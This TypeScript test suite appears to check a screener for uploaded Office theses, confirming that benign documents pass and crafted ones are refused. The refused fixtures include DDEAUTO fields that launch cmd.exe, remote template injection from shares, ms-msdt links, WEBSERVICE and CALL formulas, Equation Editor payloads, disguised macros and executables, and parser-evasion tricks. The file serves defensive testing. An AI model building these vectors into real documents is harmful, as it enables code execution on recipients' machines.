import { randomBytes } from 'node:crypto';
import {
  compoundOf,
  docOf,
  equation3,
  mathType,
  originGraph,
  packageOf,
  xlsOf,
} from '../../testing/compound';
import { docxOf, zipOf } from '../../testing/documents';
import { judging } from '../../testing/judged';
import { docxWith, fieldOf, pptxOf, relation, relations, xlsxOf } from '../../testing/office';
import { pdfWith } from '../../testing/pdf';

const judged = judging();

const object = (content: Buffer, name = 'word/embeddings/oleObject1.bin') =>
  docxWith([], { [name]: content });
const png = Buffer.from('89504e470d0a1a0a0000000d49484452', 'hex');
const wide = (text: string) => Buffer.concat([Buffer.from('fffe', 'hex'), Buffer.from(text, 'utf16le')]);

describe('theses are taken', () => {
  const taken: [string, 'docx' | 'xlsx' | 'pptx', () => Promise<Buffer>, string][] = [
    [
      'by Word, with links, pictures, a table of contents and a template of its own computer',
      'docx',
      () =>
        docxOf([fieldOf(' TOC \\o "1-3" \\h '), fieldOf(' ADDIN ZOTERO_ITEM {"title":"DDE and DDEAUTO"} ')], {
          '_rels/.rels': relations(relation('officeDocument', 'word/document.xml')),
          'word/_rels/document.xml.rels': relations(
            relation('hyperlink', 'https://doi.org/10.1/x?a=1&amp;b=2', 'External'),
            relation('hyperlink', 'javascript:void(0)', 'External'),
            relation('hyperlink', 'file:///C:\\论文\\附录.docx', 'External'),
            relation('image', 'media/image1.png'),
          ),
          'word/_rels/settings.xml.rels': relations(
            relation('attachedTemplate', 'file:///C:\\Users\\me\\Templates\\学报.dotx', 'External'),
          ),
          'word/settings.xml': '<w:settings><w:attachedTemplate r:id="r"/></w:settings>',
          'word/media/image1.png': png,
        }),
      '',
    ],
    [
      'by WPS, with the place that a picture came from',
      'docx',
      () =>
        docxWith([relation('image', 'file:///C:/Users/me/AppData/Local/Temp/ksohtml/wps1.jpg', 'External')]),
      '',
    ],
    [
      'with names, rules and summaries of its own data',
      'xlsx',
      () =>
        xlsxOf({
          'xl/workbook.xml': '<workbook><definedName name="a">Sheet1!$A$1</definedName></workbook>',
          'xl/worksheets/sheet1.xml':
            '<worksheet><c><f>MYIMAGE(1)+SUM(A1)</f></c><formula>A1&gt;1</formula></worksheet>',
          'xl/pivotCache/p.xml':
            '<pivotCacheDefinition refreshOnLoad="1"><cacheSource type="worksheet"/></pivotCacheDefinition>',
        }),
      '',
    ],
    [
      'with letters and drawings of the own computer',
      'docx',
      () =>
        docxOf(['<v:imagedata r:id="rId4" o:title=""/><v:fill src="图.png"/>'], {
          'word/settings.xml':
            '<w:mailMerge><w:connectString w:val="Provider=Microsoft.ACE;Data Source=C:\\a.xlsx"/></w:mailMerge>',
        }),
      '',
    ],
    ['with equations of MathType', 'docx', () => object(compoundOf(mathType())), ''],
    [
      'with equations of a format of its own, which are noted',
      'docx',
      () => object(compoundOf({ 'Equation Native': Buffer.from('KSEE formula x') })),
      '公式 对象',
    ],
    ['with equations of the old editor', 'docx', () => object(compoundOf(equation3())), ''],
    [
      'with a chart and its workbook',
      'docx',
      async () => object(await xlsxOf(), 'word/embeddings/Microsoft_Excel_Sheet1.xlsx'),
      '',
    ],
    ['with an old workbook', 'docx', () => object(xlsOf()), ''],
    [
      'with a workbook in an object',
      'docx',
      async () => object(compoundOf({ Package: await xlsxOf() })),
      '嵌入对象 对象',
    ],
    [
      'with a graph of Origin, which is noted',
      'docx',
      () => object(compoundOf(originGraph())),
      '嵌入对象 Origin50.Graph',
    ],
    ['with an empty object', 'docx', () => object(Buffer.alloc(0)), ''],
    [
      'with a picture that Word fetched',
      'docx',
      () => docxOf([fieldOf(' INCLUDEPICTURE "https://a.cn/x.png" \\* MERGEFORMATINET ')]),
      '',
    ],
    [
      'with parts in UTF-16',
      'docx',
      () => docxOf(['x'], { 'customXml/item1.xml': wide('<?xml version="1.0" encoding="utf-16"?><a/>') }),
      '',
    ],
    [
      'a table with a query, which is noted',
      'xlsx',
      () => xlsxOf({ 'xl/connections.xml': '<connections><connection id="1"/></connections>' }),
      '表格的外部数据连接',
    ],
    [
      'a table with formulas',
      'xlsx',
      () => xlsxOf({ 'xl/worksheets/sheet1.xml': '<c><f>SUM(A1:A3)*CALLS(2)</f></c>' }),
      '',
    ],
    [
      'a table that refers to another',
      'xlsx',
      () =>
        xlsxOf({
          'xl/externalLinks/externalLink1.xml': '<externalLink><externalBook/></externalLink>',
          'xl/externalLinks/_rels/externalLink1.xml.rels': relations(
            relation('externalLinkPath', '数据.xlsx', 'External'),
          ),
        }),
      '',
    ],
    [
      'slides with a jump',
      'pptx',
      () => pptxOf({ 'ppt/slides/slide1.xml': '<a:hlinkClick action="ppaction://hlinksldjump"/>' }),
      '',
    ],
  ];
  test.each(taken)('%s', async (_, type, content, noted) =>
    expect(await judged(type, await content())).toBe(noted),
  );
});

describe('what one program reads and another leaves out is refused', () => {
  const odd: [string, 'docx' | 'xlsx' | 'pptx', () => Promise<Buffer>, RegExp][] = [
    [
      'a simple field with an attribute in front that Word ignores',
      'docx',
      () => docxOf(['<w:fldSimple xmlns:x="x" x:instr="PAGE" w:instr="DDEAUTO cmd"/>']),
      /结构不正常/,
    ],
    [
      'a field that begins for Word and ends for others',
      'docx',
      () =>
        docxOf([
          '<w:r><w:fldChar x:fldCharType="end" w:fldCharType="begin"/><w:instrText>DDEAUTO cmd</w:instrText></w:r>',
        ]),
      /结构不正常/,
    ],
    [
      'a field with a word in front that Word ignores',
      'docx',
      () =>
        docxOf([
          '<w:r><w:fldChar w:fldCharType="begin"/><x:instrText>PAGE </x:instrText><w:instrText>DDEAUTO cmd</w:instrText></w:r>',
        ]),
      /结构不正常/,
    ],
    [
      'a field with a word in an element that Word does not know',
      'docx',
      () =>
        docxOf([
          '<w:r><w:fldChar w:fldCharType="begin"/></w:r><x:y><w:r><w:instrText>PAGE </w:instrText></w:r></x:y><w:r><w:instrText>DDEAUTO cmd</w:instrText></w:r>',
        ]),
      /结构不正常/,
    ],
    [
      'a field with a word that was deleted',
      'docx',
      () =>
        docxOf([
          '<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:del><w:r><w:delInstrText>PAGE </w:delInstrText></w:r></w:del><w:r><w:instrText>DDEAUTO cmd</w:instrText></w:r>',
        ]),
      /DDE/,
    ],
    [
      'a field with a sign that Word does not know',
      'docx',
      () =>
        docxOf([
          '<w:r><w:fldChar w:fldCharType="begin"/><w:fldChar w:fldCharType="x"/><w:instrText>DDE cmd</w:instrText></w:r>',
        ]),
      /结构不正常/,
    ],
    [
      'a code behind the end of its field',
      'docx',
      () =>
        docxOf([
          '<w:r><w:fldChar w:fldCharType="begin"/><w:fldChar w:fldCharType="separate"/><w:instrText>DDE cmd</w:instrText></w:r>',
        ]),
      /DDE/,
    ],
    ['a field behind blanks', 'docx', () => docxOf([fieldOf(`${' '.repeat(5000)}&#32;DDEAUTO cmd`)]), /DDE/],
    [
      'a field behind blanks in many pieces',
      'docx',
      () => docxOf([fieldOf(`${' '.repeat(90_000)}DDEAUTO cmd`, 60)]),
      /DDE/,
    ],
    [
      'a field whose name another one gives',
      'docx',
      () =>
        docxOf([
          `<w:r><w:fldChar w:fldCharType="begin"/></w:r>${fieldOf(' IF 1 = 1 "DDEAUTO" ')}<w:r><w:instrText> cmd</w:instrText></w:r>`,
        ]),
      /DDE/,
    ],
    [
      'a formula behind a long text',
      'xlsx',
      () =>
        xlsxOf({
          'xl/worksheets/sheet1.xml': `<c><f>"${'x'.repeat(5000)}"&amp;_xlfn.WEBSERVICE("http://a.cn")</f></c>`,
        }),
      /公式/,
    ],
    [
      'a formula longer than any',
      'xlsx',
      () => xlsxOf({ 'xl/worksheets/sheet1.xml': `<c><f>${'1&amp;'.repeat(40_000)}1</f></c>` }),
      /复杂/,
    ],
    [
      'a drawing with a source in front that Word ignores',
      'docx',
      () => docxOf(['<v:imagedata x:src="a.png" src="http://a.cn/x.png"/>']),
      /结构不正常/,
    ],
    [
      'a relation with its place twice',
      'docx',
      () =>
        docxWith([
          '<Relationship Id="r" Type="x/attachedTemplate" Target="http://a.cn" TargetMode="External" target="a.xml" targetmode="Internal"/>',
        ]),
      /结构不正常/,
    ],
    [
      'a type of parts said twice',
      'docx',
      () =>
        docxOf(['x'], {
          '[Content_Types].xml':
            '<Types><Override ContentType="a.macroEnabled.main" contenttype="text/xml"/></Types>',
        }),
      /结构不正常/,
    ],
    ['a script of markup', 'docx', () => docxOf(['x'], { 'word/a.wsf': '<job id="a"/>' }), /OLE/],
    ['a script among its pictures', 'docx', () => docxOf(['x'], { 'word/media/a.js': 'x=1' }), /OLE/],
  ];
  test.each(odd)('%s', async (_, type, content, reason) => {
    const said = await judged(type, await content());
    expect(said).toMatch(/^拒绝/);
    expect(said).toMatch(reason);
  });

  test('fields in boxes of text are taken, once for new programs and once for old ones', async () => {
    const box = (kind: string) =>
      `<mc:${kind}><w:txbxContent>${fieldOf(' PAGE ')}</w:txbxContent></mc:${kind}>`;
    const boxes = `<w:r><mc:AlternateContent>${box('Choice')}${box('Fallback')}</mc:AlternateContent></w:r>`;
    const body = [
      fieldOf(' SEQ 图 \\* ARABIC '),
      boxes,
      fieldOf(' TOC ').replace('<w:r><w:t>x</w:t></w:r>', boxes),
    ];
    expect(await judged('docx', await docxOf(body))).toBe('');
  });

  test('a long formula, and a field with a long list of sources, are taken', async () => {
    const formula = `"${'x'.repeat(7000)}"&amp;A1`;
    expect(
      await judged('xlsx', await xlsxOf({ 'xl/worksheets/sheet1.xml': `<c><f>${formula}</f></c>` })),
    ).toBe('');
    const sources = ` ADDIN ZOTERO_ITEM CSL_CITATION {"title":"${'DDEAUTO '.repeat(30_000)}"} `;
    expect(await judged('docx', await docxOf([fieldOf(sources, 3)]))).toBe('');
  });
});

describe('what acts is refused', () => {
  const away = (type: string, target: string, mode = 'External') => docxWith([relation(type, target, mode)]);
  const refused: [string, 'docx' | 'xlsx' | 'pptx', () => Promise<Buffer>, RegExp][] = [
    ['a template from elsewhere', 'docx', () => away('attachedTemplate', 'https://a.cn/x.dotm'), /模板/],
    ['a template from a share', 'docx', () => away('attachedTemplate', '\\\\1.2.3.4\\x.dotm'), /模板/],
    [
      'a template from a share as a file',
      'docx',
      () => away('attachedTemplate', 'file://1.2.3.4/x.dotm'),
      /模板/,
    ],
    ['a template in signs', 'docx', () => away('attachedTemplate', '&#104;ttps://a.cn/x'), /模板/],
    [
      'a template with the mode in other letters',
      'docx',
      () => away('attachedTemplate', 'https://a.cn', ' eXternal '),
      /模板/,
    ],
    [
      'a template that names no mode',
      'docx',
      () => away('attachedTemplate', 'https://a.cn/x.dotm', ''),
      /模板/,
    ],
    [
      'a template in relations with another prefix',
      'docx',
      () =>
        docxOf(['x'], {
          'word/_rels/settings.xml.rels':
            '<p:Relationships xmlns:p="x"><p:Relationship Type="x/attachedTemplate" Target="http://a.cn" TargetMode="External"/></p:Relationships>',
        }),
      /模板/,
    ],
    ['a picture from elsewhere', 'docx', () => away('image', 'http://a.cn/x.png'), /外部/],
    ['an object from elsewhere', 'docx', () => away('oleObject', 'http://a.cn/x.rtf'), /外部/],
    [
      'an object by a moniker',
      'docx',
      () => away('oleObject', 'mhtml:http://a.cn!x-usc:http://a.cn'),
      /外部/,
    ],
    ['a frame from elsewhere', 'docx', () => away('frame', 'http://a.cn'), /外部/],
    ['a document from elsewhere', 'docx', () => away('subDocument', 'http://a.cn'), /外部/],
    ['a link to a share', 'docx', () => away('hyperlink', '\\\\1.2.3.4\\a'), /网络共享/],
    ['a link to a handler', 'docx', () => away('hyperlink', 'ms-msdt:/id x'), /网络共享/],
    ['a link to a program', 'docx', () => away('hyperlink', 'C:\\Windows\\System32\\calc.exe'), /程序/],
    [
      'macros by their relation',
      'docx',
      () => away('http://schemas.microsoft.com/office/2006/relationships/vbaProject', 'a.bin', ''),
      /宏/,
    ],
    [
      'macros under another type',
      'xlsx',
      () =>
        xlsxOf({
          '[Content_Types].xml':
            '<Types><Override ContentType="application/vnd.ms-excel.macrosheet+xml"/></Types>',
        }),
      /宏/,
    ],
    [
      'macros in types written in signs',
      'docx',
      () =>
        docxOf(['x'], {
          '[Content_Types].xml': '<Types><Override ContentType="a.macro&#69;nabled.main"/></Types>',
        }),
      /宏/,
    ],
    [
      'macros under the name of a picture',
      'docx',
      () => object(compoundOf({ VBA: { dir: Buffer.from('x') } }), 'word/media/image1.png'),
      /宏/,
    ],
    [
      'a menu that calls',
      'docx',
      () =>
        away('http://schemas.microsoft.com/office/2007/relationships/ui/extensibility', 'customUI/a.xml', ''),
      /宏/,
    ],
    ['a control', 'docx', () => away('control', 'activeX1.xml', ''), /宏/],
    ['a packed file', 'docx', () => object(compoundOf(packageOf('a.exe', Buffer.from('MZ')))), /OLE/],
    [
      'a packed file under another name',
      'docx',
      () => object(compoundOf(packageOf('a.js', Buffer.from('x'))), 'word/media/image1.png'),
      /OLE/,
    ],
    [
      'a packed file in an equation',
      'docx',
      () => object(compoundOf({ ...mathType(), ...packageOf('a.js', Buffer.from('x')) })),
      /OLE/,
    ],
    [
      'a packed file without a maker',
      'docx',
      () => object(compoundOf({ ...packageOf('a.js', Buffer.from('x')), owner: undefined })),
      /OLE/,
    ],
    [
      'an object that is a link',
      'docx',
      () =>
        object(compoundOf({ owner: '00000300-0000-0000-C000-000000000046', '\x01Ole': Buffer.alloc(20) })),
      /OLE/,
    ],
    [
      'an equation that is none',
      'docx',
      () => object(compoundOf({ ...mathType(), 'Equation Native': Buffer.from('cmd /c calc') })),
      /公式/,
    ],
    [
      'an equation of the old editor that is none',
      'docx',
      () => object(compoundOf({ ...equation3(), 'Equation Native': Buffer.alloc(200, 0x41) })),
      /公式/,
    ],
    [
      'an equation that attacks its editor',
      'docx',
      () =>
        object(
          compoundOf(
            equation3(Buffer.concat([Buffer.from([8, 1, 1]), Buffer.from('cmd.exe /c '.repeat(8))])),
          ),
        ),
      /公式/,
    ],
    [
      'a control as an object',
      'docx',
      () => object(compoundOf({ owner: 'BDD1F04B-858B-11D1-B16A-00C0F0283628', Contents: Buffer.alloc(9) })),
      /OLE/,
    ],
    ['an object of unknown content', 'docx', () => object(Buffer.from('something')), /OLE/],
    [
      'a program as a picture',
      'docx',
      () => object(Buffer.from('MZ\x90\0\0'), 'word/media/image1.png'),
      /OLE/,
    ],
    [
      'an old document with macros inside',
      'docx',
      () => object(docOf({ Macros: { VBA: { dir: Buffer.from('x') } } })),
      /宏/,
    ],
    [
      'a workbook with macros inside',
      'docx',
      async () => object(await xlsxOf({ 'xl/vbaProject.bin': 'x' }), 'word/embeddings/a.xlsx'),
      /宏/,
    ],
    [
      'a pdf with a script inside',
      'docx',
      () => object(compoundOf({ CONTENTS: pdfWith('', '<</S/JavaScript/JS(x)>>') })),
      /脚本/,
    ],
    [
      'documents in documents without end',
      'docx',
      async () =>
        object(
          await object(await object(await docxOf(['x']), 'word/embeddings/a.docx'), 'word/embeddings/a.docx'),
          'word/embeddings/a.docx',
        ),
      /层数/,
    ],
    [
      'definitions of its own',
      'docx',
      () =>
        docxOf(['x'], {
          'word/styles.xml': '<?xml version="1.0"?>\n<!DOCTYPE a [<!ENTITY b "c">]><a>&b;</a>',
        }),
      /DOCTYPE/,
    ],
    [
      'definitions in UTF-16',
      'docx',
      () => docxOf(['x'], { 'word/styles.xml': wide('<?xml version="1.0"?><!DOCTYPE a []><a/>') }),
      /DOCTYPE/,
    ],
    [
      'definitions in UTF-16 without a mark',
      'docx',
      () =>
        docxOf(['x'], {
          'word/styles.xml': Buffer.from('<?xml version="1.0"?><!DOCTYPE a []><a/>', 'utf16le'),
        }),
      /DOCTYPE/,
    ],
    [
      'definitions in an encoding that hides them',
      'docx',
      () => docxOf(['x'], { 'word/styles.xml': '<?xml version="1.0" encoding="UTF-7"?>+ADwAIQ-DOCTYPE' }),
      /编码/,
    ],
    [
      'definitions in relations',
      'docx',
      () => docxOf(['x'], { 'word/_rels/document.xml.rels': '<!DOCTYPE a><Relationships/>' }),
      /DOCTYPE/,
    ],
    [
      'an element of many attributes in a part',
      'docx',
      () =>
        docxOf(['x'], {
          'word/styles.xml': `<a ${Array.from({ length: 1001 }, (_, i) => `a${i}="1"`).join(' ')}/>`,
        }),
      /复杂/,
    ],
    [
      'a name without end in a part',
      'docx',
      () => docxOf(['x'], { 'word/styles.xml': `<a ${randomBytes(4_000_000).toString('base64url')}="1"/>` }),
      /复杂/,
    ],
    [
      'a field that starts a program',
      'docx',
      () => docxOf([fieldOf('DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"')]),
      /DDE/,
    ],
    ['a field in pieces', 'docx', () => docxOf([fieldOf(' DDEAUTO c:\\\\cmd.exe', 9)]), /DDE/],
    [
      'a field written by numbers',
      'docx',
      () =>
        docxOf([`<w:r><w:fldChar w:fldCharType="begin"/></w:r>${fieldOf(' QUOTE 68 68 69 65 85 84 79')}`]),
      /DDE/,
    ],
    ['a simple field', 'docx', () => docxOf(['<w:fldSimple w:instr=" DDE cmd "/>']), /DDE/],
    [
      'a field with another prefix',
      'docx',
      () => docxOf(['<x:r><x:fldChar x:fldCharType="begin"/><x:instrText>DDE cmd</x:instrText></x:r>']),
      /DDE/,
    ],
    [
      'a field in a header',
      'docx',
      () => docxOf(['x'], { 'word/header1.xml': `<w:hdr>${fieldOf('DDE cmd')}</w:hdr>` }),
      /DDE/,
    ],
    [
      'a field that fetches from a share',
      'docx',
      () => docxOf([fieldOf('INCLUDETEXT "\\\\\\\\1.2.3.4\\\\a"')]),
      /网络/,
    ],
    [
      'a field that fetches from a share, behind a harmless one',
      'docx',
      () =>
        docxOf([
          fieldOf(' INCLUDEPICTURE "https://a.cn/x.png" '),
          fieldOf('INCLUDETEXT "\\\\\\\\1.2.3.4\\\\a"'),
        ]),
      /网络/,
    ],
    [
      'a page inside',
      'docx',
      () => docxOf(['x'], { 'word/afchunk.htm': '<html><script>x</script></html>' }),
      /网页/,
    ],
    [
      'a page of mails inside',
      'docx',
      () => docxOf(['x'], { 'word/afchunk.mht': 'MIME-Version: 1.0\n\nx' }),
      /网页/,
    ],
    ['RTF inside', 'docx', () => docxOf(['x'], { 'word/afchunk.rtf': '{\\rtf1\\objdata}' }), /OLE/],
    [
      'a picture with a script',
      'docx',
      () => docxOf(['x'], { 'word/media/image1.svg': '<svg xmlns="x"><script>x</script></svg>' }),
      /脚本/,
    ],
    [
      'a table that starts a program',
      'xlsx',
      () =>
        xlsxOf({
          'xl/externalLinks/externalLink1.xml':
            '<externalLink><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>',
        }),
      /DDE/,
    ],
    [
      'a table that fetches',
      'xlsx',
      () => xlsxOf({ 'xl/worksheets/sheet1.xml': '<c><f>_xlfn.WEBSERVICE("http://a.cn/"&amp;A1)</f></c>' }),
      /公式/,
    ],
    [
      'a table that calls',
      'xlsx',
      () => xlsxOf({ 'xl/worksheets/sheet1.xml': '<c><x:f>CALL("urlmon","x")</x:f></c>' }),
      /公式/,
    ],
    [
      'a table that refers to one elsewhere',
      'xlsx',
      () =>
        xlsxOf({
          'xl/externalLinks/_rels/a.xml.rels': relations(
            relation('externalLinkPath', 'http://a.cn/x.xlsx', 'External'),
          ),
        }),
      /外部/,
    ],
    [
      'a query of the web',
      'xlsx',
      () =>
        xlsxOf({
          'xl/connections.xml':
            '<connections><connection><webPr url="http://a.cn"/></connection></connections>',
        }),
      /网络/,
    ],
    [
      'a query when it is opened',
      'xlsx',
      () => xlsxOf({ 'xl/connections.xml': '<connections><connection refreshOnLoad="1"/></connections>' }),
      /刷新/,
    ],
    ...(
      [
        ['a name', '<definedName name="a">WEBSERVICE("http://a.cn")</definedName>'],
        ['a rule of looks', '<cfRule><formula>WEBSERVICE("http://a.cn")</formula></cfRule>'],
        [
          'a rule of values',
          '<dataValidation><formula1>WEBSERVICE("http://a.cn")</formula1></dataValidation>',
        ],
        ['a column', '<calculatedColumnFormula>WEBSERVICE("http://a.cn")</calculatedColumnFormula>'],
        ['a formula around nothing', '<f>WEB<f></f>SERVICE("http://a.cn")</f>'],
        ['a picture', '<f>_xlfn.IMAGE("http://a.cn/a.png")</f>'],
      ] as const
    ).map(([what, part]): (typeof refused)[number] => [
      `a table that fetches by ${what}`,
      'xlsx',
      () => xlsxOf({ 'xl/worksheets/sheet1.xml': `<worksheet>${part}</worksheet>` }),
      /公式/,
    ]),
    ...(
      [
        ['a query', '<queryTable refreshOnLoad="1" connectionId="1"/>'],
        ['a connection every minute', '<connections><connection interval="1"/></connections>'],
        [
          'a summary',
          '<pivotCacheDefinition refreshOnLoad=" true "><cacheSource type="external"/></pivotCacheDefinition>',
        ],
      ] as const
    ).map(([what, part]): (typeof refused)[number] => [
      `a table that asks elsewhere by ${what}`,
      'xlsx',
      () => xlsxOf({ 'xl/parts/part1.xml': part }),
      /刷新/,
    ]),
    [
      'a page that is none by its beginning, to be put in',
      'docx',
      () =>
        docxWith([relation('aFChunk', 'a.dat')], { 'word/a.dat': '<p><img src="http://a.cn/a.png"></p>' }),
      /其他格式/,
    ],
    [
      'rich text behind blanks, to be put in',
      'docx',
      () => docxWith([relation('aFChunk', 'a.txt')], { 'word/a.txt': '  {\\rtf1 x}' }),
      /其他格式/,
    ],
    [
      'a letter with its data elsewhere',
      'docx',
      () =>
        docxOf(['x'], {
          'word/settings.xml':
            '<w:mailMerge><w:connectString w:val="Data Source=\\\\1.2.3.4\\a"/></w:mailMerge>',
        }),
      /邮件合并/,
    ],
    [
      'a drawing with its picture elsewhere',
      'docx',
      () => docxOf(['<v:imagedata src="http://a.cn/a.png"/>']),
      /网络上的图片/,
    ],
    [
      'a picture behind what nobody sees',
      'docx',
      () => docxWith([relation('image', '\u200bhttp://a.cn/a.png', 'External')]),
      /外部/,
    ],
    [
      'slides that start a program behind a blank',
      'pptx',
      () => pptxOf({ 'ppt/slides/slide1.xml': '<a:hlinkClick action=" ppaction://program"/>' }),
      /程序/,
    ],
    ['sheets of macros', 'xlsx', () => xlsxOf({ 'xl/macrosheets/sheet1.xml': '<x/>' }), /宏/],
    [
      'slides that start a program',
      'pptx',
      () => pptxOf({ 'ppt/slides/slide1.xml': '<a:hlinkClick action="ppaction://program"/>' }),
      /程序/,
    ],
    [
      'slides with a macro',
      'pptx',
      () => pptxOf({ 'ppt/slides/slide1.xml': '<a:hlinkHover action="ppaction://macro?name=x"/>' }),
      /程序/,
    ],
    [
      'an archive inside',
      'docx',
      async () => object(await zipOf({ 'a.exe': 'x' }), 'word/media/image1.png'),
      /程序|不符/,
    ],
  ];
  test.each(refused)('%s', async (_, type, content, why) => {
    expect(await judged(type, await content())).toMatch(why);
  });
});
